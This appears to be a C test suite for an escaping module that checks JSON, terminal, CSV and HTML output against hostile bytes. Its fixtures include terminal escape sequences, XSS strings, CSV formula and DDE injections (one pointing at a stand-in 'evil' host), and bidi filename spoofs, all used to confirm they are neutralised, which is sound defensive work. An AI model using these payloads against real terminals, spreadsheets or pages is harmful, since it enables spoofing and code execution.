/*
 * test_escape.c - the escaping module against hostile bytes.  Besides exact
 * outputs for known injection payloads, every escaper is run over all
 * single bytes, all byte pairs and pseudo-random strings, and its output is
 * checked for the property the format needs: nothing that drives a
 * terminal, JSON that decodes back to the input, CSV fields that parse back,
 * HTML with no live markup.  The checkers decode UTF-8 with their own
 * reference code, not the module's.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "util/escape.h"
#include "shellsift.h"
#include "test.h"

/* The writers in src/report/ need these library functions; this test does
 * not use them.  Weak, so a build that links the real ones uses those. */
__attribute__((weak)) const char *ss_severity_name(ss_severity sev) { return sev == SS_SEV_LOW ? "low" : "?"; }
__attribute__((weak)) void ss_engine_counts(const ss_engine_t *e, size_t *r, size_t *h, size_t *n) {
  (void)e;
  *r = *h = *n = 0;
}

typedef void (*escaper)(strbuf *, const void *, size_t);

static char *escape_with(escaper fn, const void *data, size_t len) {
  strbuf sb = STRBUF_INIT;
  fn(&sb, data, len);
  return sb_detach(&sb);
}

static void check_esc(escaper fn, const char *in, size_t len, const char *want, int line) {
  char *got = escape_with(fn, in, len);
  if (strcmp(got, want) != 0) {
    t_check_failures++;
    fprintf(stderr, "%s:%d: got \"%s\", want \"%s\"\n", __FILE__, line, got, want);
  }
  free(got);
}

#define EXPECT(fn, lit, want) check_esc(fn, lit, sizeof(lit) - 1, want, __LINE__)

/* ---- reference UTF-8, written independently of escape.c ---- */

/* Length of the shortest-form, non-surrogate, <= U+10FFFF sequence at s,
 * or 0: decodes loosely, then re-encodes and compares. */
static size_t ref_utf8(const unsigned char *s, size_t len, uint32_t *out) {
  size_t n = s[0] < 0x80 ? 1 : s[0] >> 5 == 6 ? 2 : s[0] >> 4 == 14 ? 3 : s[0] >> 3 == 30 ? 4 : 0;
  if (n == 0 || n > len) return 0;
  uint32_t cp = n == 1 ? s[0] : s[0] & (0x7Fu >> n);
  for (size_t i = 1; i < n; i++) {
    if (s[i] >> 6 != 2) return 0;
    cp = cp << 6 | (s[i] & 0x3Fu);
  }
  size_t shortest = cp < 0x80 ? 1 : cp < 0x800 ? 2 : cp < 0x10000 ? 3 : 4;
  if (shortest != n || (cp >= 0xD800 && cp <= 0xDFFF) || cp > 0x10FFFF) return 0;
  *out = cp;
  return n;
}

static int ref_valid(const void *data, size_t len) {
  const unsigned char *s = data;
  uint32_t cp;
  for (size_t i = 0, n; i < len; i += n)
    if ((n = ref_utf8(s + i, len - i, &cp)) == 0) return 0;
  return 1;
}

static void put_utf8(strbuf *sb, uint32_t cp) {
  unsigned char b[4];
  size_t n = cp < 0x80 ? 1 : cp < 0x800 ? 2 : cp < 0x10000 ? 3 : 4;
  if (n == 1) b[0] = (unsigned char)cp;
  else {
    for (size_t i = n - 1; i > 0; i--, cp >>= 6) b[i] = (unsigned char)(0x80 | (cp & 0x3F));
    b[0] = (unsigned char)((0xF00u >> n) | cp);
  }
  sb_add(sb, b, n);
}

/* The input with each invalid byte replaced by U+FFFD. */
static void ref_replace(strbuf *out, const unsigned char *s, size_t len) {
  uint32_t cp;
  for (size_t i = 0, n; i < len; i += n) {
    n = ref_utf8(s + i, len - i, &cp);
    if (n) sb_add(out, s + i, n);
    else sb_adds(out, "\xEF\xBF\xBD"), n = 1;
  }
}

/* Code points no output may show raw. */
static int forbidden_cp(uint32_t cp) {
  return cp < 0x20 || (cp >= 0x7F && cp <= 0x9F) || cp == 0x061C || (cp >= 0x200B && cp <= 0x200F) ||
         (cp >= 0x2028 && cp <= 0x202E) || (cp >= 0x2066 && cp <= 0x2069) || cp == 0xFEFF ||
         (cp >= 0xE0000 && cp <= 0xE007F);
}

static int hexval(int c) {
  return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;
}

/* ---- per-format property checks: 1 if the output is acceptable ---- */

/* Decodes JSON string content; 0 if it is not valid JSON string content. */
static int json_decode(const char *js, strbuf *out) {
  const unsigned char *s = (const unsigned char *)js;
  size_t len = strlen(js);
  if (!ref_valid(s, len)) return 0;
  for (size_t i = 0; i < len;) {
    if (s[i] < 0x20 || s[i] == '"') return 0;
    if (s[i] != '\\') {
      sb_addc(out, (char)s[i++]);
      continue;
    }
    if (++i == len) return 0;
    const char *simple = strchr("\"\\/bfnrt", s[i]);
    if (simple && s[i]) {
      sb_addc(out, "\"\\/\b\f\n\r\t"[simple - "\"\\/bfnrt"]), i++;
      continue;
    }
    uint32_t u = 0;
    if (s[i] != 'u' || i + 5 > len) return 0;
    for (int k = 1; k <= 4; k++) {
      if (hexval(s[i + k]) < 0) return 0;
      u = u << 4 | (uint32_t)hexval(s[i + k]);
    }
    i += 5;
    if (u >= 0xDC00 && u <= 0xDFFF) return 0; /* lone low surrogate */
    if (u >= 0xD800 && u <= 0xDBFF) {
      uint32_t lo = 0;
      if (i + 6 > len || s[i] != '\\' || s[i + 1] != 'u') return 0;
      for (int k = 2; k <= 5; k++) {
        if (hexval(s[i + k]) < 0) return 0;
        lo = lo << 4 | (uint32_t)hexval(s[i + k]);
      }
      if (lo < 0xDC00 || lo > 0xDFFF) return 0;
      u = 0x10000 + ((u - 0xD800) << 10) + (lo - 0xDC00);
      i += 6;
    }
    put_utf8(out, u);
  }
  return 1;
}

static int json_ok(const unsigned char *in, size_t len, const char *js) {
  strbuf dec = STRBUF_INIT, want = STRBUF_INIT;
  int ok = json_decode(js, &dec);
  ref_replace(&want, in, len);
  ok = ok && dec.len == want.len && memcmp(dec.data, want.data, want.len) == 0;
  /* the raw line shows no control or hidden character either */
  uint32_t cp;
  for (size_t i = 0, n; ok && js[i]; i += n) {
    n = ref_utf8((const unsigned char *)js + i, strlen(js + i), &cp);
    ok = n && !forbidden_cp(cp);
  }
  sb_free(&dec);
  sb_free(&want);
  return ok;
}

/* Reverses util_esc_term; 0 if the text is not something util_esc_term produces. */
static int term_decode(const char *t, strbuf *out) {
  for (size_t i = 0; t[i];) {
    if (t[i] != '\\') {
      sb_addc(out, t[i++]);
      continue;
    }
    char c = t[i + 1];
    if (c == '\\' || c == 'n' || c == 't' || c == 'r') {
      sb_addc(out, c == '\\' ? '\\' : c == 'n' ? '\n' : c == 't' ? '\t' : '\r');
      i += 2;
    } else if (c == 'x' && hexval(t[i + 2]) >= 0 && hexval(t[i + 3]) >= 0) {
      sb_addc(out, (char)(hexval(t[i + 2]) * 16 + hexval(t[i + 3])));
      i += 4;
    } else if (c == 'u' && t[i + 2] == '{') {
      uint32_t cp = 0;
      size_t j = i + 3;
      for (; hexval(t[j]) >= 0; j++) cp = cp << 4 | (uint32_t)hexval(t[j]);
      if (t[j] != '}' || j - (i + 3) < 4) return 0;
      put_utf8(out, cp);
      i = j + 1;
    } else {
      return 0;
    }
  }
  return 1;
}

static int term_ok(const unsigned char *in, size_t len, const char *t, unsigned flags) {
  size_t tl = strlen(t);
  uint32_t cp;
  int ok = ref_valid(t, tl);
  for (size_t i = 0, n; ok && i < tl; i += n) {
    n = ref_utf8((const unsigned char *)t + i, tl - i, &cp);
    ok = !forbidden_cp(cp) && !((flags & ESC_TERM_ASCII) && cp >= 0x80);
  }
  strbuf dec = STRBUF_INIT;
  ok = ok && term_decode(t, &dec) && dec.len == len && memcmp(dec.data ? dec.data : "", in, len) == 0;
  sb_free(&dec);
  return ok;
}

/* Parses one quoted RFC 4180 field that must make up all of f. */
static int csv_parse(const char *f, strbuf *out) {
  size_t len = strlen(f);
  if (len < 2 || f[0] != '"' || f[len - 1] != '"') return 0;
  for (size_t i = 1; i < len - 1; i++) {
    if (f[i] == '\r' || f[i] == '\n') return 0;
    if (f[i] == '"') {
      if (f[i + 1] != '"' || i + 1 >= len - 1) return 0;
      i++;
    }
    sb_addc(out, f[i]);
  }
  return 1;
}

static int csv_ok(const unsigned char *in, size_t len, const char *f) {
  strbuf val = STRBUF_INIT;
  int ok = csv_parse(f, &val) && ref_valid(f, strlen(f));
  const char *v = val.data ? val.data : "";
  if (ok && len && in[0] && strchr("=+-@\t\r", in[0])) {
    ok = v[0] == '\'';
    if (ok) v++;
  }
  else if (ok && v[0] && strchr("=+-@\t\r", v[0])) ok = 0; /* a formula got through */
  /* Plain text (no controls but TAB, nothing hidden, valid) comes back as is. */
  int plain = ref_valid(in, len);
  uint32_t cp;
  for (size_t i = 0, n; plain && i < len; i += n) {
    n = ref_utf8(in + i, len - i, &cp);
    plain = cp == '\t' || (!forbidden_cp(cp) && !util_cp_hidden(cp));
  }
  if (ok && plain) ok = strlen(v) == len && memcmp(v, in, len) == 0;
  for (size_t i = 0; ok && f[i]; i++) ok = ((unsigned char)f[i] >= 0x20 && f[i] != 0x7F) || f[i] == '\t';
  sb_free(&val);
  return ok;
}

static int html_ok(const char *h) {
  static const char *const entities[] = {"&amp;", "&lt;", "&gt;", "&quot;", "&#39;"};
  size_t len = strlen(h);
  uint32_t cp;
  if (!ref_valid(h, len)) return 0;
  for (size_t i = 0, n; i < len; i += n) {
    n = ref_utf8((const unsigned char *)h + i, len - i, &cp);
    if (cp == '<' || cp == '>' || cp == '"' || cp == '\'') return 0;
    if (forbidden_cp(cp) && cp != '\t' && cp != '\n') return 0;
    if (cp == '&') {
      int known = 0;
      for (size_t k = 0; k < 5; k++) known |= strncmp(h + i, entities[k], strlen(entities[k])) == 0;
      if (!known) return 0;
    }
  }
  return 1;
}

/* Runs every escaper on in and checks every property; 1 if all hold. */
static int all_ok(const unsigned char *in, size_t len) {
  char *j = escape_with(util_esc_json, in, len), *t = escape_with(util_esc_term, in, len);
  char *c = escape_with(util_esc_csv, in, len), *h = escape_with(util_esc_html, in, len);
  strbuf ta = STRBUF_INIT;
  util_esc_term_n(&ta, in, len, SIZE_MAX, ESC_TERM_ASCII);
  const char *tas = ta.data ? ta.data : "";
  int ok = json_ok(in, len, j) && term_ok(in, len, t, 0) && term_ok(in, len, tas, ESC_TERM_ASCII) &&
           csv_ok(in, len, c) && html_ok(h) && util_utf8_valid(in, len) == ref_valid(in, len);
  if (!ok) {
    fprintf(stderr, "property failed for input:");
    for (size_t i = 0; i < len; i++) fprintf(stderr, " %02x", in[i]);
    fprintf(stderr, "\n  json %s\n  term %s\n  csv  %s\n  html %s\n", j, t, c, h);
  }
  free(j), free(t), free(c), free(h), sb_free(&ta);
  return ok;
}

/* ---- tests ---- */

static void test_utf8_decode(void) {
  struct { const char *s; size_t len, want; uint32_t cp; } v[] = {
      {"A", 1, 1, 'A'},
      {"\xC2\x80", 2, 2, 0x80},
      {"\xDF\xBF", 2, 2, 0x7FF},
      {"\xE0\xA0\x80", 3, 3, 0x800},
      {"\xEF\xBF\xBF", 3, 3, 0xFFFF},
      {"\xF0\x90\x80\x80", 4, 4, 0x10000},
      {"\xF4\x8F\xBF\xBF", 4, 4, 0x10FFFF},
      {"\xC0\xAF", 2, 0, 0},             /* overlong '/' */
      {"\xC1\xBF", 2, 0, 0},             /* overlong */
      {"\xE0\x80\xAF", 3, 0, 0},         /* overlong '/' */
      {"\xE0\x9F\xBF", 3, 0, 0},         /* overlong U+07FF */
      {"\xF0\x80\x80\xAF", 4, 0, 0},     /* overlong '/' */
      {"\xF0\x8F\xBF\xBF", 4, 0, 0},     /* overlong U+FFFF */
      {"\xED\xA0\x80", 3, 0, 0},         /* surrogate U+D800 */
      {"\xED\xBF\xBF", 3, 0, 0},         /* surrogate U+DFFF */
      {"\xED\x9F\xBF", 3, 3, 0xD7FF},
      {"\xF4\x90\x80\x80", 4, 0, 0},     /* U+110000 */
      {"\xF5\x80\x80\x80", 4, 0, 0},
      {"\xFF", 1, 0, 0},
      {"\x80", 1, 0, 0},
      {"\xE2\x82", 2, 0, 0},             /* truncated */
      {"\xE2\x28\xA1", 3, 0, 0},         /* bad continuation */
  };
  for (size_t i = 0; i < sizeof v / sizeof v[0]; i++) {
    uint32_t cp = 0;
    size_t n = util_utf8_decode((const unsigned char *)v[i].s, v[i].len, &cp);
    CHECK(n == v[i].want);
    if (n) CHECK(cp == v[i].cp);
    CHECK(util_utf8_valid(v[i].s, v[i].len) == (v[i].want == v[i].len));
  }
  CHECK(util_utf8_valid("", 0));
}

static void test_every_byte(void) {
  for (int b = 0; b < 256; b++) {
    unsigned char one[1] = {(unsigned char)b}, ctx[3] = {'a', (unsigned char)b, 'b'};
    CHECK(all_ok(one, 1));
    CHECK(all_ok(ctx, 3));
    /* A lone byte is never valid above 0x7f, so the terminal never sees one. */
    char *t = escape_with(util_esc_term, one, 1);
    for (size_t i = 0; t[i]; i++) CHECK((unsigned char)t[i] >= 0x20 && (unsigned char)t[i] < 0x7F);
    free(t);
  }
}

static void test_every_pair(void) {
  int failures = 0;
  for (int a = 0; a < 256 && failures < 5; a++)
    for (int b = 0; b < 256 && failures < 5; b++) {
      unsigned char in[2] = {(unsigned char)a, (unsigned char)b};
      if (!all_ok(in, 2)) failures++;
    }
  CHECK(failures == 0);
}

/* Random strings from pieces that stress the decoder: lead bytes,
 * continuations, fragments of hidden characters and ASCII specials. */
static void test_random(void) {
  static const char *const pieces[] = {
      "a", "\\", "\"", "'", "=", "-", "<", "&", "\t", "\n", "\r", "\x1b", "\x7f", "\x00",
      "\x80", "\xBF", "\xC0", "\xC2", "\xC2\x9B", "\xE0", "\xE2\x80", "\xE2\x80\xAE", "\xED",
      "\xED\xA0", "\xEF\xBB\xBF", "\xF0", "\xF0\x9F\x98\x80", "\xF3\xA0\x80\x81", "\xF4\x90",
      "\xFF", "\xC3\xA9", "\xE2\x81\xA6",
  };
  uint32_t x = 2463534242u;
  int failures = 0;
  for (int iter = 0; iter < 20000 && failures < 5; iter++) {
    unsigned char buf[64];
    size_t len = 0;
    x ^= x << 13, x ^= x >> 17, x ^= x << 5;
    for (int k = (int)(x % 8); k >= 0; k--) {
      x ^= x << 13, x ^= x >> 17, x ^= x << 5;
      const char *p = pieces[x % (sizeof pieces / sizeof pieces[0])];
      size_t pl = p[0] ? strlen(p) : 1; /* "\x00" is one NUL byte */
      memcpy(buf + len, p, pl);
      len += pl;
    }
    if (!all_ok(buf, len)) failures++;
  }
  CHECK(failures == 0);
}

static void test_term_payloads(void) {
  EXPECT(util_esc_term, "\x1b]0;title\x07", "\\x1B]0;title\\x07");
  EXPECT(util_esc_term, "\x1b[2J", "\\x1B[2J");
  EXPECT(util_esc_term, "\xc2\x9b" "2J", "\\u{009B}2J");
  EXPECT(util_esc_term, "invoice\xe2\x80\xae" "xcod.aspx", "invoice\\u{202E}xcod.aspx");
  EXPECT(util_esc_term, "\xe2\x81\xa6x\xe2\x81\xa9\xd8\x9c", "\\u{2066}x\\u{2069}\\u{061C}");
  EXPECT(util_esc_term, "a\\x41", "a\\\\x41"); /* a literal "\x41" stays distinguishable */
  EXPECT(util_esc_term, "two\nlines\tand\rcr", "two\\nlines\\tand\\rcr");
  EXPECT(util_esc_term, "\x00\x7f", "\\x00\\x7F");
  EXPECT(util_esc_term, "\xc0\xaf\xed\xa0\x80", "\\xC0\\xAF\\xED\\xA0\\x80");
  EXPECT(util_esc_term, "caf\xc3\xa9 \xf0\x9f\x98\x80", "caf\xc3\xa9 \xf0\x9f\x98\x80");
  EXPECT(util_esc_term, "\xf3\xa0\x80\x81", "\\u{E0001}");
  EXPECT(util_esc_term, "/var/www/html/index.php", "/var/www/html/index.php");
  strbuf sb = STRBUF_INIT;
  util_esc_term_n(&sb, "caf\xc3\xa9", 5, SIZE_MAX, ESC_TERM_ASCII);
  CHECK_STREQ(sb.data, "caf\\u{00E9}");
  sb_free(&sb);
}

static void test_term_limit(void) {
  strbuf sb = STRBUF_INIT;
  /* "ab" + ESC: the 4-byte \x1B does not fit in 5, and is not split */
  CHECK(util_esc_term_n(&sb, "ab\x1b" "cd", 5, 5, 0) == 2);
  CHECK_STREQ(sb.data, "ab");
  sb_reset(&sb);
  CHECK(util_esc_term_n(&sb, "ab\x1b" "cd", 5, 6, 0) == 3);
  CHECK_STREQ(sb.data, "ab\\x1B");
  sb_reset(&sb);
  /* a UTF-8 character is never cut in half */
  CHECK(util_esc_term_n(&sb, "a\xc3\xa9", 3, 2, 0) == 1);
  CHECK_STREQ(sb.data, "a");
  sb_reset(&sb);
  CHECK(util_esc_term_n(&sb, "abc", 3, 0, 0) == 0);
  CHECK(sb.len == 0);
  CHECK(util_esc_term_n(&sb, "abc", 3, 100, 0) == 3);
  sb_free(&sb);
}

static void test_json_exact(void) {
  EXPECT(util_esc_json, "a\"b\\c/", "a\\\"b\\\\c/");
  EXPECT(util_esc_json, "\b\f\n\r\t", "\\b\\f\\n\\r\\t");
  EXPECT(util_esc_json, "\x00\x01\x1b\x1f\x7f", "\\u0000\\u0001\\u001b\\u001f\\u007f");
  EXPECT(util_esc_json, "\xc2\x9b", "\\u009b");
  EXPECT(util_esc_json, "x\xe2\x80\xae" "y", "x\\u202ey");
  EXPECT(util_esc_json, "\xe2\x80\xa8", "\\u2028");
  EXPECT(util_esc_json, "\xf3\xa0\x81\x81", "\\udb40\\udc41"); /* tag character U+E0041 */
  EXPECT(util_esc_json, "caf\xc3\xa9 \xf0\x9f\x98\x80", "caf\xc3\xa9 \xf0\x9f\x98\x80");
  EXPECT(util_esc_json, "\xc0\xaf", "\xef\xbf\xbd\xef\xbf\xbd");
  EXPECT(util_esc_json, "\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
  EXPECT(util_esc_json, "\xf4\x90\x80\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
  EXPECT(util_esc_json, "a\xff" "b", "a\xef\xbf\xbd" "b");
  EXPECT(util_esc_json, "", "");
}

static void test_csv_exact(void) {
  EXPECT(util_esc_csv, "", "\"\"");
  EXPECT(util_esc_csv, "plain, with comma", "\"plain, with comma\"");
  EXPECT(util_esc_csv, "say \"hi\"", "\"say \"\"hi\"\"\"");
  EXPECT(util_esc_csv, "=HYPERLINK(\"http://evil/\",\"click\")",
         "\"'=HYPERLINK(\"\"http://evil/\"\",\"\"click\"\")\"");
  EXPECT(util_esc_csv, "+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"");
  EXPECT(util_esc_csv, "@SUM(1)", "\"'@SUM(1)\"");
  EXPECT(util_esc_csv, "-1+1", "\"'-1+1\"");
  EXPECT(util_esc_csv, "\t=1", "\"'\t=1\"");
  EXPECT(util_esc_csv, "\r=1", "\"'\\x0D=1\"");
  EXPECT(util_esc_csv, "a=1", "\"a=1\"");
  EXPECT(util_esc_csv, "row\r\nbreak", "\"row\\x0D\\x0Abreak\"");
  EXPECT(util_esc_csv, "x\x1b[2J\x7f", "\"x\\x1B[2J\\x7F\"");
  EXPECT(util_esc_csv, "a\xe2\x80\xae" "b", "\"a\\u{202E}b\"");
  EXPECT(util_esc_csv, "bad\xc0\xaf", "\"bad\xef\xbf\xbd\xef\xbf\xbd\"");
  EXPECT(util_esc_csv, "caf\xc3\xa9", "\"caf\xc3\xa9\"");
}

static void test_html_exact(void) {
  EXPECT(util_esc_html, "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;");
  EXPECT(util_esc_html, "\"><img src=x onerror=alert(1)>", "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;");
  EXPECT(util_esc_html, "it's & that", "it&#39;s &amp; that");
  EXPECT(util_esc_html, "a\tb\nc", "a\tb\nc");
  EXPECT(util_esc_html, "\x1b\r\x00\xc2\x9b\xe2\x80\xae\xff",
         "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
  EXPECT(util_esc_html, "caf\xc3\xa9", "caf\xc3\xa9");
}

static void test_base64(void) {
  EXPECT(util_esc_base64, "", "");
  EXPECT(util_esc_base64, "f", "Zg==");
  EXPECT(util_esc_base64, "fo", "Zm8=");
  EXPECT(util_esc_base64, "foo", "Zm9v");
  EXPECT(util_esc_base64, "foob", "Zm9vYg==");
  EXPECT(util_esc_base64, "fooba", "Zm9vYmE=");
  EXPECT(util_esc_base64, "foobar", "Zm9vYmFy");
  EXPECT(util_esc_base64, "\xff\xfe\x00\x80", "//4AgA==");
}

static void test_hidden(void) {
  CHECK(util_cp_hidden(0x202E) && util_cp_hidden(0x200E) && util_cp_hidden(0x2066) && util_cp_hidden(0x061C));
  CHECK(util_cp_hidden(0xFEFF) && util_cp_hidden(0xE0041) && util_cp_hidden(0x2028));
  CHECK(!util_cp_hidden('a') && !util_cp_hidden(0xE9) && !util_cp_hidden(0x1F600) && !util_cp_hidden(0xFFFD));
}

/* ---- independent parsers: Python's json (RFC 8259) and csv modules ---- */

/* The inputs the Python checks see: every byte alone and between letters,
 * every C1 control as UTF-8, the bidi and invisible characters, and the
 * injection payloads of each format. */
static size_t hostile_inputs(strbuf *in, size_t max) {
#define P(lit) {lit, sizeof(lit) - 1}
  static const struct {
    const char *s;
    size_t len;
  } payloads[] = {
      P("\x1b]0;owned\x07"),
      P("\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\"),
      P("\x1b[2J\x1b[H"),
      P("\x1bP+q\x1b\\"),
      P("</script><script>alert(1)</script>"),
      P("\"><img src=x onerror=alert(1)>"),
      P("<!--"),
      P("]]>"),
      P("=HYPERLINK(\"http://evil/?\"&A1,\"Error: click\")"),
      P("+cmd|' /C calc'!A0"),
      P("-2+3"),
      P("@SUM(A1)"),
      P("\tx"),
      P("\rx"),
      P("invoice\xe2\x80\xaegpj.php"),
      P("\xe2\x81\xa6rtl\xe2\x81\xa9"),
      P("a\xef\xb8\x8f" "b"),
      P("\xf3\xa0\x84\x80"),
      P("\xc0\xaf\xe0\x80\xaf"),
      P("\xed\xa0\x80\xed\xb0\x80"),
      P("\xf4\x90\x80\x80"),
      P("x\x00y"),
      P("\xe2\x80\xa8\xe2\x80\xa9"),
      P("\\u0000\\\""),
  };
#undef P
  size_t n = 0;
  for (int b = 0; b < 256 && n < max; b++, n++) {
    unsigned char one[3] = {'a', (unsigned char)b, 'z'};
    sb_add(&in[n], one + 1, 1);
    sb_add(&in[++n], one, 3);
  }
  for (uint32_t cp = 0x80; cp <= 0x9F && n < max; cp++) put_utf8(&in[n++], cp);
  for (uint32_t cp = 0x2066; cp <= 0x2069 && n < max; cp++) put_utf8(&in[n++], cp);
  for (size_t i = 0; i < sizeof payloads / sizeof payloads[0] && n < max; i++)
    sb_add(&in[n++], payloads[i].s, payloads[i].len);
  return n;
}

/* Runs python3 on a script with the file as argument; 1 if it printed "ok". */
static int python_says_ok(const char *script, const char *file) {
  char cmd[512], py[64];
  snprintf(py, sizeof py, "%s.py", file);
  FILE *f = fopen(py, "w");
  if (!f || fputs(script, f) < 0 || fclose(f) != 0) return 0;
  snprintf(cmd, sizeof cmd, "python3 %s %s 2>&1", py, file);
  FILE *p = popen(cmd, "r");
  char line[512] = "";
  int ok = 0;
  while (p && fgets(line, sizeof line, p)) {
    if (strcmp(line, "ok\n") == 0) ok = 1;
    else fprintf(stderr, "python: %s", line);
  }
  if (!p || pclose(p) != 0) ok = 0;
  unlink(py);
  return ok;
}

static void test_json_python(void) {
  static const char script[] =
      "import base64, json, sys\n"
      "n = 0\n"
      "for line in open(sys.argv[1], encoding=\"utf-8\", errors=\"strict\"):\n"
      "    rec = json.loads(line, parse_constant=lambda c: sys.exit(\"constant \" + c))\n"
      "    want = base64.b64decode(rec[\"want\"])\n"
      "    got = rec[\"s\"].encode(\"utf-8\", errors=\"strict\")  # a lone surrogate raises\n"
      "    assert got == want, (got, want)\n"
      "    n += 1\n"
      "assert n > 500, n\n"
      "print(\"ok\")\n";
  strbuf in[700] = {0}, out = STRBUF_INIT;
  size_t n = hostile_inputs(in, 700);
  for (size_t i = 0; i < n; i++) {
    strbuf want = STRBUF_INIT;
    ref_replace(&want, (const unsigned char *)in[i].data, in[i].len);
    sb_adds(&out, "{\"want\":\"");
    util_esc_base64(&out, want.data ? want.data : "", want.len);
    sb_adds(&out, "\",\"s\":\"");
    util_esc_json(&out, in[i].data ? in[i].data : "", in[i].len);
    sb_adds(&out, "\"}\n");
    sb_free(&want);
  }
  char path[] = "/tmp/ss-esc-json-XXXXXX";
  int fd = mkstemp(path);
  CHECK(fd >= 0 && write(fd, out.data, out.len) == (ssize_t)out.len);
  close(fd);
  CHECK(python_says_ok(script, path));
  unlink(path);
  for (size_t i = 0; i < n; i++) sb_free(&in[i]);
  sb_free(&out);
}

/* Each input as a CSV record of two fields (the escaped input, its index):
 * Python's csv module must read exactly one record per input, no field a
 * formula, the index intact, and text without controls exactly as given. */
static void test_csv_python(void) {
  static const char script[] =
      "import base64, csv, sys\n"
      "rows = list(csv.reader(open(sys.argv[1], newline=\"\", encoding=\"utf-8\")))\n"
      "exp = [l.split(\" \") for l in open(sys.argv[1] + \".want\")]\n"
      "assert len(rows) == len(exp), (len(rows), len(exp))\n"
      "for i, (r, e) in enumerate(zip(rows, exp)):\n"
      "    assert len(r) == 2 and r[1] == str(i), r\n"
      "    assert r[0][:1] not in (\"=\", \"+\", \"-\", \"@\", \"\\t\", \"\\r\"), r\n"
      "    assert not any(ord(c) < 32 and c != \"\\t\" or 0x7f <= ord(c) <= 0x9f for c in r[0]), r\n"
      "    if e[0] == \"plain\":\n"
      "        want = base64.b64decode(e[1]).decode()\n"
      "        assert r[0] == want or r[0] == \"\\x27\" + want, (r[0], want)\n"
      "print(\"ok\")\n";
  strbuf in[700] = {0}, out = STRBUF_INIT, exp = STRBUF_INIT;
  size_t n = hostile_inputs(in, 700);
  for (size_t i = 0; i < n; i++) {
    const unsigned char *s = (const unsigned char *)(in[i].data ? in[i].data : "");
    int plain = ref_valid(s, in[i].len);
    uint32_t cp;
    for (size_t k = 0, m; plain && k < in[i].len; k += m) {
      m = ref_utf8(s + k, in[i].len - k, &cp);
      plain = cp == '\t' || (!forbidden_cp(cp) && !util_cp_hidden(cp));
    }
    util_esc_csv(&out, s, in[i].len);
    sb_addf(&out, ",\"%zu\"\r\n", i);
    sb_adds(&exp, plain ? "plain " : "other ");
    util_esc_base64(&exp, s, in[i].len);
    sb_addc(&exp, '\n');
  }
  char path[] = "/tmp/ss-esc-csv-XXXXXX", want[64];
  int fd = mkstemp(path);
  CHECK(fd >= 0 && write(fd, out.data, out.len) == (ssize_t)out.len);
  close(fd);
  snprintf(want, sizeof want, "%s.want", path);
  FILE *f = fopen(want, "w");
  CHECK(f && fwrite(exp.data, 1, exp.len, f) == exp.len);
  if (f) fclose(f);
  CHECK(python_says_ok(script, path));
  unlink(path);
  unlink(want);
  for (size_t i = 0; i < n; i++) sb_free(&in[i]);
  sb_free(&out);
  sb_free(&exp);
}

/* Unicode's Default_Ignorable_Code_Point set (DerivedCoreProperties.txt,
 * Unicode 15), written out here rather than taken from escape.c: each
 * renders as nothing, so every output must show it. */
static void test_default_ignorable(void) {
  static const uint32_t ranges[][2] = {
      {0x00AD, 0x00AD}, {0x034F, 0x034F}, {0x061C, 0x061C}, {0x115F, 0x1160}, {0x17B4, 0x17B5},
      {0x180B, 0x180F}, {0x200B, 0x200F}, {0x202A, 0x202E}, {0x2060, 0x206F}, {0x3164, 0x3164},
      {0xFE00, 0xFE0F}, {0xFEFF, 0xFEFF}, {0xFFA0, 0xFFA0}, {0xFFF0, 0xFFF8}, {0x1BCA0, 0x1BCA3},
      {0x1D173, 0x1D17A}, {0xE0000, 0xE0FFF},
  };
  int bad = 0;
  for (size_t r = 0; r < sizeof ranges / sizeof ranges[0]; r++)
    for (uint32_t cp = ranges[r][0]; cp <= ranges[r][1] && bad < 5; cp++) {
      strbuf in = STRBUF_INIT, t = STRBUF_INIT, want = STRBUF_INIT;
      put_utf8(&in, cp);
      util_esc_term(&t, in.data, in.len);
      sb_addf(&want, "\\u{%04X}", (unsigned)cp);
      if (!util_cp_hidden(cp) || strcmp(t.data, want.data) != 0) {
        fprintf(stderr, "U+%04X shown as \"%s\"\n", (unsigned)cp, t.data);
        bad++;
      }
      sb_free(&in), sb_free(&t), sb_free(&want);
    }
  CHECK(bad == 0);
  /* a variation selector is what made two names look alike (fixed) */
  EXPECT(util_esc_term, "shell\xef\xb8\x8f.aspx", "shell\\u{FE0F}.aspx");
  EXPECT(util_esc_json, "a\xf3\xa0\x84\x80", "a\\udb40\\udd00");
}

/* Every C1 control, as the two UTF-8 bytes a terminal would obey. */
static void test_c1_as_utf8(void) {
  for (uint32_t cp = 0x80; cp <= 0x9F; cp++) {
    strbuf in = STRBUF_INIT, want = STRBUF_INIT;
    put_utf8(&in, cp);
    sb_addf(&want, "\\u{%04X}", (unsigned)cp);
    char *t = escape_with(util_esc_term, in.data, in.len), *h = escape_with(util_esc_html, in.data, in.len);
    CHECK_STREQ(t, want.data);
    CHECK_STREQ(h, "\xEF\xBF\xBD");
    free(t), free(h), sb_free(&in), sb_free(&want);
  }
}

int main(void) {
  RUN(test_utf8_decode);
  RUN(test_every_byte);
  RUN(test_every_pair);
  RUN(test_random);
  RUN(test_term_payloads);
  RUN(test_term_limit);
  RUN(test_json_exact);
  RUN(test_csv_exact);
  RUN(test_html_exact);
  RUN(test_base64);
  RUN(test_hidden);
  RUN(test_default_ignorable);
  RUN(test_c1_as_utf8);
  RUN(test_json_python);
  RUN(test_csv_python);
  TEST_END();
}
